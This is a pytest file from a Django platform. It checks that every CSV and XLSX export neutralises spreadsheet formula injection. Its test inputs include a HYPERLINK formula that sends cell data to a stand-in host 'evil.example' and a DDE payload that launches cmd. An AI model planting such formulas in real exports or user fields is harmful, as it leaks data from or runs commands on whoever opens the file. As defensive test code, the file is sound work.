"""Issue 10, item 3: no CSV or XLSX written by the platform carries a spreadsheet formula from user data.

Every spreadsheet goes through `kooperacja.core.exports`. The exports, each tested here: the delivery report of a
service (`?format=csv|xlsx`), plebiscite results (CSV/XLSX) and the list of voting codes (CSV). The regional
comparison of monitoring holds TERYT names and figures only (tested in tests/monitoring). The person data export
and the catalogue (HSDS) / OCDS exports are JSON. A new export must use `core.exports` and get a test here.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone

from kooperacja.core.exports import csv_response, safe_cell, write_csv, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"x")'
DAY_ROOM = "Świetlica środowiskowa „Żubrzątko”"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+48 123", "'+48 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Spółdzielnia Żubr", "Spółdzielnia Żubr"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell_neutralises_text_that_starts_a_formula(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


def test_safe_cell_leaves_numbers_and_dates_alone() -> None:
    for value in (-5, 3.5, Decimal("-1.25"), date(2026, 1, 5), datetime(2026, 1, 5, 10, 0), None, True):
        assert safe_cell(value) is value


def test_csv_writer_keeps_figures_and_quotes_text() -> None:
    text = write_csv([[EVIL, Decimal("-1.50"), -3, date(2026, 2, 1), None]])
    row = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert row == ["'" + EVIL, "-1,50", "-3", "01.02.2026", ""]


def test_csv_response_is_an_uncached_attachment() -> None:
    response = csv_response([["a"]], "x.csv")
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert "no-store" in response["Cache-Control"]
    assert response.content.startswith("\ufeff".encode())


def test_xlsx_sheet_title_follows_excels_rules() -> None:
    from openpyxl import load_workbook

    data = xlsx_bytes([["a"]], title="Wyniki: 2026/01 [głosowanie] z bardzo długim tytułem")
    title = load_workbook(io.BytesIO(data)).active.title
    assert len(title) <= 31 and not set(title) & set("\\/?*[]:")


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_writes_text_as_strings_never_formulas() -> None:
    aware = timezone.make_aware(datetime(2026, 3, 1, 12, 30))
    data = xlsx_bytes([[EVIL, "#N/A", "zwykły tekst\x01", Decimal("2.5"), 7, date(2026, 1, 5), aware]])
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(data)).active
    cells = next(iter(ws.iter_rows(values_only=False)))
    assert [c.data_type for c in cells[:3]] == ["s", "s", "s"]
    assert cells[0].value == EVIL and cells[0].quotePrefix
    assert cells[1].value == "#N/A"
    assert cells[2].value == "zwykły tekst"  # a control character would make openpyxl refuse the whole file
    assert cells[3].value == Decimal("2.5") or cells[3].value == 2.5
    assert cells[4].value == 7
    assert cells[6].value == datetime(2026, 3, 1, 12, 30)  # Warsaw wall time


# --- every export of the platform --------------------------------------------------------------------------


@pytest.fixture
def evil_service(demo: Any) -> Any:
    """The demo day room, renamed by its provider's staff to a formula (names are stored as typed)."""
    from kooperacja.catalog.models import Service
    from kooperacja.catalog.services import service_update

    service = Service.objects.get(name=DAY_ROOM)
    return service_update(actor=demo.user("pes_staff"), service=service, data={"name": EVIL})


@pytest.mark.parametrize("role", ["pes_staff", "officer"])
def test_service_report_csv_has_no_formula(evil_service: Any, client_as: Any, role: str) -> None:
    response = client_as(role).get(f"/realizacja/uslugi/{evil_service.pk}/sprawozdanie/", {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Usługa", "'" + EVIL]
    # nothing in the file starts a formula
    assert not [cell for row in rows for cell in row if re.match(r"\s*[=+\-@\t\r]", cell)]


@pytest.mark.parametrize("role", ["pes_staff", "officer"])
def test_service_report_xlsx_has_no_formula(evil_service: Any, client_as: Any, role: str) -> None:
    response = client_as(role).get(f"/realizacja/uslugi/{evil_service.pk}/sprawozdanie/", {"format": "xlsx"})
    assert response.status_code == 200
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws["B1"].value == EVIL
    assert ws["B1"].data_type == "s"
    assert ws["B1"].quotePrefix
    # the figures stay numbers
    numbers = [c.value for row in ws.iter_rows(min_row=6) for c in row[2:3]]
    assert numbers and all(isinstance(v, int | float | Decimal) for v in numbers)


# Participation (results of a plebiscite and the list of voting codes): titles and names come from residents.


def test_plebiscite_results_csv_and_xlsx_have_no_formula(demo: Any, client_as: Any) -> None:
    from django.urls import reverse

    from tests.participation import helpers as ph

    square = ph.plebiscite(ph.SQUARE)
    # A resident proposed this title before voting began (the list is closed now, so it is set directly).
    candidate = square.candidates.order_by("number").first()
    type(candidate).objects.filter(pk=candidate.pk).update(title=EVIL)
    client = client_as("anonymous")
    response = client.get(reverse("participation:results_export", args=[square.pk, "csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [cell for row in rows for cell in row if EVIL in cell] == ["'" + EVIL]
    xlsx = client.get(reverse("participation:results_export", args=[square.pk, "xlsx"]))
    xml = _sheet_xml(xlsx.content)
    assert "<f>" not in xml and "<f " not in xml
    from openpyxl import load_workbook

    cells = [c for row in load_workbook(io.BytesIO(xlsx.content)).active.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_voting_codes_csv_has_no_formula(demo: Any, client_as: Any) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from tests.participation import helpers as ph

    evil_name = "=2+5+cmd|' /C calc'!A0"
    upload = SimpleUploadedFile("lista.csv", f"imie_nazwisko\n{evil_name}\nAnna Z.\n".encode())
    response = client_as("officer").post(
        reverse("participation:codes_issue", args=[ph.plebiscite().pk]), {"file": upload}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "no-store" in response["Cache-Control"]  # names and codes: never cached
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == "'" + evil_name
    assert rows[2][0] == "Anna Z."
